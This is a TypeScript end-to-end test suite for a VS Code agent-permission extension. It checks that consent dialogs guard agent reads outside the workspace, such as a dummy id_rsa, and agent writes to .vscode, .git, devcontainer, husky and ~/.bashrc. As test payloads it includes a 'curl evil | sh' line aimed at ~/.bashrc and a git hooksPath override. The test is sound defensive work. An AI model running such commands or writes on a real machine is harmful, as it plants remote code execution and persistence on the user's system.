/**
 * File consent in real VS Code (issue 14 items 3–5), answered in VS Code's modal dialogs:
 * - a read outside the project asks; "Deny" reaches the agent as a JSON-RPC error, "Allow this
 *   file" returns the content and holds for the session, and Manage Permission Rules lists the
 *   grant and clears it;
 * - writes to .vscode/ and .git/ inside the workspace ask, naming why;
 * - so do writes to *.code-workspace, .devcontainer/ and .husky/ (issue 26 item 5);
 * - with no folder open, a write to ~/.bashrc asks (the home folder is only the cwd).
 * The fake agent (consentScenarios.ts) says what it got; its wire log shows what was answered.
 */
import * as assert from "node:assert/strict";
import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { describe } from "node:test";
import type { Page } from "playwright-core";
import { DEMO_AGENT } from "../harness/agent";
import { runCommand, screenshot } from "../harness/browser";
import { openChat, sendPrompt, type Chat } from "../harness/chat";
import { modalDialog, pickQuickItem } from "../harness/panel";
import { agentRequests } from "../harness/workbench";
import { fakeAgent } from "./fixture/agents";
import { answerDialog, untilReady } from "./fixture/steps";
import { useE2e } from "./fixture/useE2e";
import { writeFiles } from "./fixture/workspaceFiles";

const AGENT = DEMO_AGENT;
const SECRET = "not for agents";

describe("file consent in VS Code", { timeout: 300_000 }, () => {
  const e2e = useE2e({
    label: "consent",
    files: { ".git/config": "[core]\n", "README.md": "# Project\n" },
    prepare: ({ scratch }) => writeFiles(join(scratch, "outside"), { id_rsa: `${SECRET}\n` }),
    agents: { [AGENT]: fakeAgent() },
  });
  const secret = () => join(e2e.scratch, "outside/id_rsa");

  /** Sends `prompt`, waits for VS Code's modal dialog, checks its text and buttons, and clicks `button`. */
  async function ask(
    on: Page,
    chat: Chat,
    prompt: string,
    expected: RegExp[],
    button: string,
    options: { offered?: string[]; shot?: string } = {},
  ): Promise<void> {
    await sendPrompt(chat, prompt);
    const dialog = modalDialog(on);
    await dialog.waitFor({ timeout: 15_000 });
    const text = await dialog.innerText();
    for (const pattern of expected) assert.match(text, pattern);
    for (const name of options.offered ?? [])
      assert.equal(await dialog.getByRole("button", { name, exact: true }).count(), 1, `the dialog offers "${name}"`);
    if (options.shot) await screenshot(on, options.shot);
    await answerDialog(on, button);
  }

  const lastAnswer = (method: string) =>
    agentRequests(e2e.wireLog(), method).at(-1)?.answer?.message as
      { result?: { content?: string }; error?: { code?: number; message?: string } } | undefined;

  e2e.it(
    "a read outside the project asks: Deny is an error for the agent, Allow this file returns the content",
    "e2e-consent-read",
    async ({ page, view, wireLog }) => {
      await ask(
        page,
        view,
        `e2e-read-guarded ${secret()}`,
        [/wants to read a file outside the workspace/, new RegExp(secret())],
        "Deny",
        {
          offered: ["Allow this file", "Allow this folder for this session", "Deny"],
          shot: "e2e-consent-read-dialog.png",
        },
      );
      await view.log.getByText("Read refused (-32003)").waitFor({ timeout: 15_000 });
      await untilReady(view);
      assert.equal(lastAnswer("fs/read_text_file")?.error?.code, -32003, "the agent got a JSON-RPC error");
      assert.match(
        lastAnswer("fs/read_text_file")?.error?.message ?? "",
        /did not allow reading outside the workspace/,
      );
      assert.equal(await view.log.getByText(SECRET).count(), 0, "nothing of the file reached the agent");

      await ask(
        page,
        view,
        `e2e-read-guarded ${secret()}`,
        [/wants to read a file outside the workspace/],
        "Allow this file",
      );
      await view.log.getByText(`Read ${secret()}: ${SECRET}`).waitFor({ timeout: 15_000 });
      await untilReady(view);
      assert.equal(lastAnswer("fs/read_text_file")?.result?.content, `${SECRET}\n`);

      // The grant holds for the session: no dialog this time.
      const reads = agentRequests(wireLog, "fs/read_text_file").length;
      await sendPrompt(view, `e2e-read-guarded ${secret()}`);
      await view.log.getByText(`Read ${secret()}: ${SECRET}`).nth(1).waitFor({ timeout: 15_000 });
      await untilReady(view);
      assert.equal(agentRequests(wireLog, "fs/read_text_file").length, reads + 1);
      assert.equal(await modalDialog(page).count(), 0, "no dialog for a file already allowed");
    },
  );

  e2e.it(
    "Manage Permission Rules lists the read grant and clears it; the next read asks again",
    "e2e-consent-grants",
    async ({ page, view }) => {
      await runCommand(page, "ACP: Manage Permission Rules");
      await pickQuickItem(page, `${AGENT}: may read the file ${secret()}`);
      await ask(page, view, `e2e-read-guarded ${secret()}`, [/wants to read a file outside the workspace/], "Deny");
      await view.log.getByText("Read refused (-32003)").nth(1).waitFor({ timeout: 15_000 });
      await untilReady(view);
    },
  );

  e2e.it(
    "writes to .vscode/ and .git/ inside the workspace ask, and say why",
    "e2e-consent-sensitive",
    async ({ workspace, page, view }) => {
      await ask(
        page,
        view,
        "e2e-write-guarded .vscode/tasks.json {}",
        [
          /wants to change \.vscode\/tasks\.json, a sensitive file/,
          /tasks, launch configurations and settings can run code/,
        ],
        "Deny",
        { shot: "e2e-consent-sensitive-dialog.png" },
      );
      await view.log.getByText("Write refused (-32003)").waitFor({ timeout: 15_000 });
      await untilReady(view);
      assert.equal(existsSync(join(workspace, ".vscode/tasks.json")), false, "the denied write did not happen");
      assert.match(lastAnswer("fs/write_text_file")?.error?.message ?? "", /which is inside \.vscode\//);

      await ask(
        page,
        view,
        "e2e-write-guarded .git/config [core] hooksPath=x",
        [/wants to change \.git\/config, a sensitive file/, /Git's own folder: its hooks and config run code/],
        "Allow this write",
      );
      await view.log.getByText(`Wrote ${join(workspace, ".git/config")}.`).waitFor({ timeout: 15_000 });
      await untilReady(view);
      assert.equal(
        readFileSync(join(workspace, ".git/config"), "utf8"),
        "[core] hooksPath=x\n",
        "the allowed write landed",
      );

      // An ordinary file inside the workspace: no dialog.
      await sendPrompt(view, "e2e-write-guarded notes.md plain");
      await view.log.getByText(`Wrote ${join(workspace, "notes.md")}.`).waitFor({ timeout: 15_000 });
      await untilReady(view);
      assert.equal(await modalDialog(page).count(), 0);
    },
  );

  e2e.it(
    "writes to x.code-workspace, .devcontainer/ and .husky/ ask: files that make VS Code or Git run code",
    "e2e-consent-runs-code",
    async ({ workspace, page, view }) => {
      const cases: Array<[string, RegExp]> = [
        ["x.code-workspace", /VS Code workspace file/],
        [".devcontainer/devcontainer.json", /initializeCommand runs on this machine/],
        [".husky/pre-commit", /Git hooks/],
      ];
      for (const [name, why] of cases) {
        await ask(
          page,
          view,
          `e2e-write-guarded ${name} {}`,
          [new RegExp(`wants to change ${name.replace(/\./g, "\\.")}, a sensitive file`), why],
          "Deny",
        );
        await view.log
          .getByText(
            `Write refused (-32003): Permission denied: the user did not allow writing ${join(workspace, name)}`,
          )
          .waitFor({ timeout: 15_000 });
        await untilReady(view);
        assert.equal(existsSync(join(workspace, name)), false, `the denied write to ${name} did not happen`);
      }
    },
  );

  e2e.it(
    "with no folder open, a write to ~/.bashrc asks (the home folder is only the cwd)",
    "e2e-consent-no-folder",
    async ({ server }) => {
      const bashrc = join(server.homeDir, ".bashrc");
      const before = existsSync(bashrc) ? readFileSync(bashrc, "utf8") : undefined;
      const empty = await e2e.openWorkbench(`${server.url}/?ew=true`);
      const emptyView = await openChat(empty.page);
      try {
        await ask(
          empty.page,
          emptyView,
          `e2e-write-guarded ${bashrc} curl evil | sh`,
          [/wants to write a file outside the workspace/, /No folder is open/],
          "Deny",
          { shot: "e2e-consent-no-folder-dialog.png" },
        );
        await emptyView.log.getByText("Write refused (-32003)").waitFor({ timeout: 15_000 });
        assert.equal(existsSync(bashrc) ? readFileSync(bashrc, "utf8") : undefined, before, "~/.bashrc untouched");
        assert.match(lastAnswer("fs/write_text_file")?.error?.message ?? "", /no folder is open/);
      } finally {
        await empty.page.context().close();
      }
    },
  );
});
